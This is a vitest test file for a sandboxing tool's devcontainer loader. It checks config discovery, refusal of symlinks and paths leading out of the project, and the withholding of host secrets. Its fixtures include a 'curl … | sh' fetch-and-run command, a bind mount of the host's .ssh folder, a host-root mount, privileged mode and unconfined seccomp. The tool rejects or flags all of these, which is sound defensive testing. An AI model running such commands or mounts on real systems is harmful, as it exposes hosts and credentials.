import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { AirlockError } from '../../contracts/errors';
import { loadDevcontainer } from './devcontainer-config';
import { findDevcontainerConfigs } from './devcontainer-files';
import { parseEnvironmentChoice, resolveEnvironment } from './environment-choice';

const dirs: string[] = [];
afterEach(async () => {
  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
});

async function project(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'airlock-env-'));
  dirs.push(dir);
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), content);
  }
  return dir;
}

async function failure(p: Promise<unknown>): Promise<AirlockError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AirlockError);
  return err as AirlockError;
}

describe('devcontainer discovery', () => {
  it('finds the three locations in the spec order', async () => {
    const dir = await project({
      '.devcontainer/devcontainer.json': '{"image":"a"}',
      '.devcontainer.json': '{"image":"b"}',
      '.devcontainer/go/devcontainer.json': '{"image":"c"}',
      '.devcontainer/empty/readme.md': '',
    });
    expect(await findDevcontainerConfigs(dir)).toEqual(['.devcontainer/devcontainer.json', '.devcontainer.json', '.devcontainer/go/devcontainer.json']);
  });

  it('auto uses the top configuration, or the only named one, and asks when several are named', async () => {
    const none = await project({ 'main.go': '' });
    expect((await resolveEnvironment(none, { kind: 'auto' }, { env: process.env })).kind).toBe('airlock');
    const one = await project({ '.devcontainer/go/devcontainer.json': '{"image":"golang"}' });
    const r = await resolveEnvironment(one, { kind: 'auto' }, { env: process.env });
    expect(r.kind === 'devcontainer' && r.config.configPath).toBe('.devcontainer/go/devcontainer.json');
    const two = await project({ '.devcontainer/go/devcontainer.json': '{"image":"golang"}', '.devcontainer/py/devcontainer.json': '{"image":"python"}' });
    const err = await failure(resolveEnvironment(two, { kind: 'auto' }, { env: process.env }));
    expect(err.message).toMatch(/2 devcontainer configurations \(go, py\).*--environment devcontainer:go/);
    const picked = await resolveEnvironment(two, { kind: 'devcontainer', path: 'py' }, { env: process.env });
    expect(picked.kind === 'devcontainer' && picked.config.source).toEqual({ kind: 'image', image: 'python' });
    expect((await failure(resolveEnvironment(two, { kind: 'devcontainer', path: 'rust' }, { env: process.env }))).message).toMatch(/No devcontainer configuration 'rust'.*go\/devcontainer.json/);
    expect((await failure(resolveEnvironment(none, { kind: 'devcontainer' }, { env: process.env }))).message).toMatch(/no devcontainer configuration/);
  });

  it('parses --environment values and refuses unknown ones', () => {
    expect(parseEnvironmentChoice(undefined)).toEqual({ kind: 'auto' });
    expect(parseEnvironmentChoice('airlock')).toEqual({ kind: 'airlock' });
    expect(parseEnvironmentChoice('devcontainer:.devcontainer/go')).toEqual({ kind: 'devcontainer', path: '.devcontainer/go' });
    expect(parseEnvironmentChoice('image:golang:1.22')).toEqual({ kind: 'image', ref: 'golang:1.22' });
    expect(() => parseEnvironmentChoice('image:bad ref')).toThrow(/not an image reference/);
    expect(() => parseEnvironmentChoice('nix')).toThrow(/unknown environment 'nix'/);
  });
});

describe('devcontainer.json', () => {
  it('reads comments and trailing commas, and says line and column of a syntax error', async () => {
    const ok = await project({ '.devcontainer.json': '// the env\n{\n  "image": "golang:1.22", /* go */\n  "forwardPorts": [8080, "db:5432",],\n}\n' });
    const env = await loadDevcontainer(ok, '.devcontainer.json', { env: process.env });
    expect(env.source).toEqual({ kind: 'image', image: 'golang:1.22' });
    expect(env.forwardPorts).toEqual([8080]);
    // A compose service's port is not offered, and says why (the record, the CLI and the form show notApplied).
    expect(env.notApplied).toContainEqual({ field: 'forwardPorts "db:5432"', reason: expect.stringMatching(/^a compose service's port is not offered as a preview port: .*internal network.*db:5432$/) });
    const bad = await project({ '.devcontainer.json': '{\n  "image": "golang"\n  "remoteUser": "vscode"\n}\n' });
    const err = await failure(loadDevcontainer(bad, '.devcontainer.json', { env: process.env }));
    expect(err.kind).toBe('INVALID_INPUT');
    expect(err.message).toMatch(/^\.devcontainer\.json:3:3: comma expected/);
  });

  it("offers the sandbox's own forwardPorts (numbers, strings, localhost:N) once each; lists service ports and non-ports as not applied", async () => {
    const dir = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', forwardPorts: [3000, '5173', 'localhost:3000', 'db:5432', 'cache:6379', 70000, 'web'] }) });
    const env = await loadDevcontainer(dir, '.devcontainer.json', { env: process.env });
    expect(env.forwardPorts).toEqual([3000, 5173]);
    expect(env.notApplied.map((n) => n.field)).toEqual(['forwardPorts "db:5432"', 'forwardPorts "cache:6379"', 'forwardPorts 70000', 'forwardPorts "web"']);
    expect(env.notApplied[1]?.reason).toMatch(/reach it as cache:6379$/);
    expect(env.notApplied[2]?.reason).toBe('not a port (1-65535) or service:port');
    // A hostile file cannot grow the record past its schema: long names are no service, long lists are counted.
    const many = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', forwardPorts: [...Array.from({ length: 150 }, (_, i) => 1000 + i), ...Array.from({ length: 30 }, (_, i) => `svc${i}:1`), `${'a'.repeat(500)}:1`] }) });
    const bounded = await loadDevcontainer(many, '.devcontainer.json', { env: process.env });
    expect(bounded.forwardPorts).toHaveLength(100);
    expect(bounded.notApplied).toHaveLength(21);
    expect(bounded.notApplied.at(-1)).toEqual({ field: 'forwardPorts', reason: '61 more entries were not read (at most 100 ports and 20 other entries are)' });
    expect(Math.max(...bounded.notApplied.map((n) => n.field.length))).toBeLessThanOrEqual(200);
  });

  it('resolves a build relative to the config, with args and target, and hashes the Dockerfile', async () => {
    const dir = await project({
      '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile","context":"..","args":{"GO":"1.22","N":3},"target":"dev"}}',
      '.devcontainer/Dockerfile': 'FROM debian:bookworm-slim\n',
    });
    const env = await loadDevcontainer(dir, '.devcontainer/devcontainer.json', { env: process.env });
    expect(env.source).toEqual({ kind: 'build', dockerfile: '.devcontainer/Dockerfile', context: '', args: { GO: '1.22', N: '3' }, target: 'dev' });
    await writeFile(path.join(dir, '.devcontainer/Dockerfile'), 'FROM debian:bookworm-slim\nRUN true\n');
    expect((await loadDevcontainer(dir, '.devcontainer/devcontainer.json', { env: process.env })).contentHash).not.toBe(env.contentHash);
  });

  it('names a missing Dockerfile, a path outside the project and a config with nothing to run', async () => {
    const missing = await project({ '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile"}}' });
    expect((await failure(loadDevcontainer(missing, '.devcontainer/devcontainer.json', { env: process.env }))).message).toMatch(/build\.dockerfile '\.devcontainer\/Dockerfile' does not exist/);
    const outside = await project({ '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"../../etc/Dockerfile"}}' });
    expect((await failure(loadDevcontainer(outside, '.devcontainer/devcontainer.json', { env: process.env }))).message).toMatch(/points outside the project/);
    const empty = await project({ '.devcontainer.json': '{"name":"x"}' });
    expect((await failure(loadDevcontainer(empty, '.devcontainer.json', { env: process.env }))).message).toMatch(/names no image/);
    const notObject = await project({ '.devcontainer.json': '[1]' });
    expect((await failure(loadDevcontainer(notObject, '.devcontainer.json', { env: process.env }))).message).toMatch(/one JSON object/);
  });

  it('resolves build paths by their real paths: a link out of the project is refused naming it, a link inside is fine (docs/architecture.md §16)', async () => {
    const outside = await project({ 'home/secret.txt': 'not for the engine\n', 'Dockerfile': 'FROM debian\n' });
    // A committed `.devcontainer/root -> <outside>` makes the context any folder there.
    const ctx = await project({ '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile","context":"${localWorkspaceFolder}/.devcontainer/root/home"}}', '.devcontainer/Dockerfile': 'FROM debian\n' });
    await symlink(outside, path.join(ctx, '.devcontainer/root'));
    const e1 = await failure(loadDevcontainer(ctx, '.devcontainer/devcontainer.json', { env: process.env }));
    expect(e1.message).toContain("build.context '.devcontainer/root/home' leads outside the project through the link '.devcontainer/root'");
    // A Dockerfile that is a link out of the project.
    const df = await project({ '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile"}}' });
    await symlink(path.join(outside, 'Dockerfile'), path.join(df, '.devcontainer/Dockerfile'));
    expect((await failure(loadDevcontainer(df, '.devcontainer/devcontainer.json', { env: process.env }))).message).toContain("build.dockerfile '.devcontainer/Dockerfile' leads outside the project through the link '.devcontainer/Dockerfile'");
    // A compose service's build context, likewise.
    const compose = await project({ '.devcontainer.json': '{"dockerComposeFile":"c.yml","service":"app"}', 'c.yml': 'services:\n  app:\n    build: ./up/home\n' });
    await symlink(outside, path.join(compose, 'up'));
    expect((await failure(loadDevcontainer(compose, '.devcontainer.json', { env: process.env }))).message).toContain("services.app.build.context 'up/home' leads outside the project through the link 'up'");
    // A link that stays inside the project is only a name.
    const fine = await project({ '.devcontainer/devcontainer.json': '{"build":{"dockerfile":"Dockerfile","context":"ctx"}}', 'real/Dockerfile': 'FROM debian\n' });
    await symlink(path.join(fine, 'real'), path.join(fine, '.devcontainer/ctx'));
    await symlink('../real/Dockerfile', path.join(fine, '.devcontainer/Dockerfile'));
    expect((await loadDevcontainer(fine, '.devcontainer/devcontainer.json', { env: process.env })).source).toMatchObject({ kind: 'build', context: '.devcontainer/ctx' });
  });

  it('normalises the lifecycle commands: string, array and object forms', async () => {
    const dir = await project({
      '.devcontainer.json': JSON.stringify({
        image: 'x',
        onCreateCommand: 'make deps',
        updateContentCommand: ['npm', 'ci'],
        postCreateCommand: { pip: 'pip install -r requirements.txt', go: ['go', 'mod', 'download'] },
      }),
    });
    const env = await loadDevcontainer(dir, '.devcontainer.json', { env: process.env });
    expect(env.lifecycle).toEqual({
      onCreateCommand: [{ argv: ['/bin/sh', '-c', 'make deps'] }],
      updateContentCommand: [{ argv: ['npm', 'ci'] }],
      postCreateCommand: [
        { name: 'pip', argv: ['/bin/sh', '-c', 'pip install -r requirements.txt'] },
        { name: 'go', argv: ['go', 'mod', 'download'] },
      ],
    });
    const bad = await project({ '.devcontainer.json': '{"image":"x","postStartCommand":42}' });
    expect((await failure(loadDevcontainer(bad, '.devcontainer.json', { env: process.env }))).message).toMatch(/postStartCommand must be a command line/);
  });

  it('substitutes the variables', async () => {
    const dir = await project({
      '.devcontainer.json': JSON.stringify({
        image: 'x',
        containerEnv: { WS: '${containerWorkspaceFolder}/bin', BASE: '${localWorkspaceFolderBasename}', CBASE: '${containerWorkspaceFolderBasename}' },
        remoteEnv: { PATH2: '${containerEnv:WS}:${containerEnv:NOPE:/usr/bin}', KEEP: '${unknownVar}' },
      }),
    });
    const env = await loadDevcontainer(dir, '.devcontainer.json', { env: process.env });
    expect(env.containerEnv).toEqual({ WS: '/workspace/bin', BASE: path.basename(dir), CBASE: 'workspace' });
    // `${containerEnv:…}` is the container's: kept as the reference prints it, resolved in the run (containerEnvironment).
    expect(env.remoteEnv).toEqual({ PATH2: '${containerEnv:WS}:${containerEnv:NOPE:/usr/bin}', KEEP: '${unknownVar}' });
  });

  it('does not copy host variables in unless allowed by name, and says so', async () => {
    const dir = await project({ '.devcontainer.json': JSON.stringify({ image: 'x', containerEnv: { TOKEN: '${localEnv:GITHUB_TOKEN}', TZ: '${localEnv:TZ:UTC}', LANG2: '${localEnv:LANG}' } }) });
    const env = { GITHUB_TOKEN: 'ghp_canary_secret', TZ: 'Europe/Paris', LANG: 'fr_FR.UTF-8' };
    const refused = await loadDevcontainer(dir, '.devcontainer.json', { env });
    expect(refused.containerEnv).toEqual({ TOKEN: '', TZ: 'UTC', LANG2: '' });
    expect(JSON.stringify(refused)).not.toContain('ghp_canary_secret');
    expect(refused.notApplied.map((n) => n.field)).toEqual(['${localEnv:GITHUB_TOKEN}', '${localEnv:LANG}', '${localEnv:TZ}']);
    expect(refused.notApplied[0]?.reason).toMatch(/not copied into the sandbox.*secrets/);
    const allowed = await loadDevcontainer(dir, '.devcontainer.json', { env, allowedLocalEnv: ['TZ'] });
    expect(allowed.containerEnv.TZ).toBe('Europe/Paris');
    expect(allowed.localEnvUsed).toEqual(['TZ']);
    expect(allowed.notApplied.map((n) => n.field)).not.toContain('${localEnv:TZ}');
  });

  it('lists what would weaken isolation as not applied, naming what runArgs asked for', async () => {
    const dir = await project({
      '.devcontainer.json': JSON.stringify({
        image: 'x',
        initializeCommand: 'curl https://example.invalid | sh',
        runArgs: ['--network=host', '--gpus', 'all', '--cap-add=SYS_PTRACE'],
        mounts: ['source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind'],
        workspaceMount: 'source=/,target=/host,type=bind',
        privileged: true,
        capAdd: ['NET_ADMIN'],
        securityOpt: ['seccomp=unconfined'],
        hostRequirements: { gpu: true },
      }),
    });
    const env = await loadDevcontainer(dir, '.devcontainer.json', { env: process.env });
    const fields = env.notApplied.map((n) => n.field);
    expect(fields).toEqual(['initializeCommand', 'runArgs', 'mounts', 'workspaceMount', 'privileged', 'capAdd', 'securityOpt', 'hostRequirements.gpu', '${localEnv:HOME}']);
    expect(env.notApplied[0]?.reason).toMatch(/runs on the host/);
    expect(env.notApplied[1]?.reason).toMatch(/host or other networking.*GPU access.*added capabilities/);
  });

  it('reads compose and feature declarations', async () => {
    const dir = await project({
      '.devcontainer/devcontainer.json': JSON.stringify({ dockerComposeFile: ['compose.yml'], service: 'app', runServices: ['app', 'db'], features: { './local-tool': { version: '1' }, 'ghcr.io/devcontainers/features/go:1': {} } }),
      '.devcontainer/compose.yml': 'services:\n  app: { image: "debian:bookworm-slim" }\n  db: { image: "redis:7" }\n',
      '.devcontainer/local-tool/devcontainer-feature.json': '{"id":"local-tool"}',
      '.devcontainer/local-tool/install.sh': 'true\n',
    });
    const env = await loadDevcontainer(dir, '.devcontainer/devcontainer.json', { env: process.env });
    expect(env.source).toMatchObject({ kind: 'compose', files: ['.devcontainer/compose.yml'], service: 'app', runServices: ['app', 'db'] });
    expect(env.source.kind === 'compose' && env.source.sidecars.map((s) => s.name)).toEqual(['db']);
    expect(env.features).toEqual([
      { id: './local-tool', options: { version: '1' }, local: true },
      { id: 'ghcr.io/devcontainers/features/go:1', options: {}, local: false },
    ]);
    const noService = await project({ '.devcontainer.json': '{"dockerComposeFile":"c.yml"}', 'c.yml': '' });
    expect((await failure(loadDevcontainer(noService, '.devcontainer.json', { env: process.env }))).message).toMatch(/needs "service"/);
  });
});
